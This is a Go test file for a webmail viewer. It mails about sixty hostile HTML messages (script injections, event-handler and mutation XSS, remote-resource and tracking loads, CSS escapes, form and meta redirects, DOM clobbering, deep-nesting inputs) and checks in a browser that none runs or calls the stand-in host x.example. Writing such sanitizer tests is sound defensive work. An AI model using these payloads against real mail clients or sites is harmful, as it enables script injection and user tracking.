package browser

// Hostile mail: none of it makes a request, and none changes anything outside of its frame.

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/smtp"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/seed078e9d8c/maillab/mailtest"
	"github.com/seed078e9d8c/maillab/mxmock/inspect"
)

// base64Lines encodes a part.
func base64Lines(b []byte) string {
	text := base64.StdEncoding.EncodeToString(b)
	var lines strings.Builder
	for len(text) > 76 {
		lines.WriteString(text[:76] + "\r\n")
		text = text[76:]
	}
	return lines.String() + text
}

// harm is a script that would show that it ran; the name is that of a host.
const harm = `top.document.title="pwned";parent.pwned=1;fetch("http://x.example/s")`

// hostile are the HTML of mails.
var hostile = []string{
	`<script>` + harm + `</script>`,
	`<script src="http://x.example/a.js"></script>`,
	`<script type="module" src="//x.example/a.mjs"></script>`,
	`<SCRIPT/SRC=//x.example/a.js></SCRIPT>`,
	`<scr<script>ipt>` + harm + `</scr</script>ipt>`,
	`<img src="http://x.example/a.png">`,
	`<img srcset="http://x.example/a.png 1x, http://x.example/b.png 2x">`,
	`<picture><source srcset="http://x.example/a.webp"><img src="http://x.example/b.png"></picture>`,
	`<img src=x onerror='` + harm + `'>`,
	`<img src="x` + "`" + `onerror=` + "`" + `1">`,
	`<body onload='` + harm + `' background="http://x.example/bg.png">`,
	`<svg onload='` + harm + `'><image href="http://x.example/a.svg"/></svg>`,
	`<svg><script>` + harm + `</script></svg>`,
	`<svg><use href="http://x.example/a.svg#x"/></svg>`,
	`<svg><a xlink:href="javascript:` + "`" + `x` + "`" + `"><text y=20>click</text></a><animate attributeName="href" values="javascript:1"/></svg>`,
	`<svg><foreignObject><iframe src="http://x.example/f"></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='` + `parent.pwned=1` + `'&gt;">`,
	`<math href="javascript:parent.pwned=1">x</math>`,
	`<form action="http://x.example/post" method="post"><input name=a value=b><button autofocus>Go</button></form>`,
	`<form id=f action="http://x.example/f"></form><input form=f type=image src="http://x.example/i.png">`,
	`<button formaction="http://x.example/b">x</button>`,
	`<base href="http://x.example/"><img src="a.png"><a href="b">b</a>`,
	`<meta http-equiv="refresh" content="0;url=http://x.example/r">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<meta http-equiv="set-cookie" content="a=b">`,
	`<link rel="stylesheet" href="http://x.example/a.css">`,
	`<link rel="preload" as="image" href="http://x.example/p.png">`,
	`<link rel="prefetch" href="http://x.example/p"><link rel="dns-prefetch" href="//y.example"><link rel="preconnect" href="http://z.example">`,
	`<link rel="manifest" href="http://x.example/m.json"><link rel=icon href="http://x.example/i.ico">`,
	`<style>@import url(http://x.example/i.css);</style>`,
	`<style>body{background:url(http://x.example/bg.png)}</style>`,
	`<style>@font-face{font-family:a;src:url(http://x.example/f.woff)}body{font-family:a}</style>x`,
	`<style>@\69mport "http://x.example/e.css";</style>`,
	`<style>body{b\61ckground:u\72l(http://x.example/e.png)}</style>`,
	`<div style="background:url(http://x.example/s.png)">x</div>`,
	`<div style="background:u\72 l('http://x.example/s.png')">x</div>`,
	`<div style="background:image-set('http://x.example/s.png' 1x)">x</div>`,
	`<div style="list-style:url(http://x.example/l.png);cursor:url(http://x.example/c.cur),auto;content:url(http://x.example/c.png)">x</div>`,
	`<div style="position:fixed;inset:0;background:red;z-index:9999">over all</div>`,
	`<table background="http://x.example/t.png"><tr><td background="http://x.example/d.png">x</td></tr></table>`,
	`<iframe src="http://x.example/i"></iframe>`,
	`<iframe srcdoc="<script>parent.parent.pwned=1</script>"></iframe>`,
	`<frameset onload='` + harm + `'><frame src="http://x.example/f"></frameset>`,
	`<object data="http://x.example/o"></object>`,
	`<embed src="http://x.example/e.swf">`,
	`<applet code="http://x.example/a.class"></applet>`,
	`<video src="http://x.example/v.mp4" poster="http://x.example/p.png" autoplay></video>`,
	`<audio src="http://x.example/a.mp3" autoplay></audio>`,
	`<video><source src="http://x.example/v.webm" onerror='` + harm + `'><track src="http://x.example/t.vtt" default></video>`,
	`<a href="javascript:` + "parent.pwned=1" + `" autofocus onfocus="parent.pwned=1">x</a>`,
	`<a href="http://x.example/" ping="http://x.example/ping" target="_top">x</a>`,
	`<a href="data:text/html,<script>parent.pwned=1</script>">x</a>`,
	`<details open ontoggle="parent.pwned=1">x</details>`,
	`<marquee onstart="parent.pwned=1">x</marquee>`,
	`<input autofocus onfocus="parent.pwned=1"><select autofocus onfocus="parent.pwned=1"></select>`,
	`<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>"></noscript>`,
	`<template><img src="http://x.example/t.png"></template><template shadowrootmode=open><img src="http://x.example/u.png"></template>`,
	`<xmp><img src="http://x.example/x.png"></xmp></xmp><plaintext>`,
	`<!--><img src="http://x.example/c.png">--><![CDATA[<img src="http://x.example/c.png">]]>`,
	`</iframe></main></body></html><script>` + harm + `</script><h1 id=outside>outside</h1>`,
	`<div id=search name=q><img name=body><form name=getElementById><input name=title></form></div>`,
	strings.Repeat("<div>", 10_000) + `<img src="http://x.example/deep.png">`,
	"<table>" + strings.Repeat(`<tr><td>cell<td background="http://x.example/t.png">cell</tr>`, 30_000) + "</table>",
}

// TestHostile opens each hostile mail. All names of the world lead to a server that wants not to be asked.
func TestHostile(t *testing.T) {
	t.Parallel()
	if len(hostile) < 60 {
		t.Errorf("there are %d hostile mails, want 60", len(hostile))
	}
	var mu sync.Mutex
	var asked []string
	canary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if r.URL.Path != "/favicon.ico" { // which the browser wants of the canary itself
			asked = append(asked, r.Host+r.URL.String())
		}
	}))
	defer canary.Close()
	srv := mailtest.New(t)
	page := inspect.New(t, srv)
	c, err := smtp.Dial(srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	for i, html := range hostile {
		subject := fmt.Sprintf("hostile %d <script>document.title=\"pwned\"</script>", i+1)
		err := deliver(c, "From: \"<img src=//x.example/f onerror=alert(1)>\" <a@x.example>\r\nTo: bob@qq.com\r\nSubject: "+subject+
			"\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"+base64Lines([]byte(html)))
		if err != nil {
			t.Fatal(err)
		}
	}
	c.Quit()
	ctx := open(t, strings.TrimPrefix(canary.URL, "http://"))

	// The canary sings: else the test would show nothing.
	do(t, ctx, chromedp.Navigate("http://x.example/canary"))
	mu.Lock()
	sang := len(asked) > 0
	asked = nil
	mu.Unlock()
	if !sang {
		t.Fatal("the canary is not reached by its names")
	}
	for i := range hostile {
		do(t, ctx, chromedp.Navigate(fmt.Sprintf("%s/messages/%d", page.URL(), i+1)), chromedp.WaitReady("main"))
		title := ask(t, ctx, chromedp.Title())
		pwned := ask(t, ctx, chromedp.Evaluate[bool](`typeof window.pwned !== "undefined"`))
		outside := ask(t, ctx, chromedp.Evaluate[bool](`document.getElementById("outside") !== null || !location.href.startsWith(`+fmt.Sprintf("%q", page.URL())+`)`))
		if pwned || outside || strings.HasPrefix(title, "pwned") {
			t.Errorf("hostile mail %d gets out of its frame: title %q, %v, %v\n%.300s", i+1, title, pwned, outside, hostile[i])
		}
	}
	do(t, ctx, chromedp.Navigate("http://x.example/end")) // after which no request of theirs is on its way
	mu.Lock()
	defer mu.Unlock()
	if len(asked) != 1 || asked[0] != "x.example/end" {
		t.Errorf("hostile mails have made requests: %q", asked)
	}
}
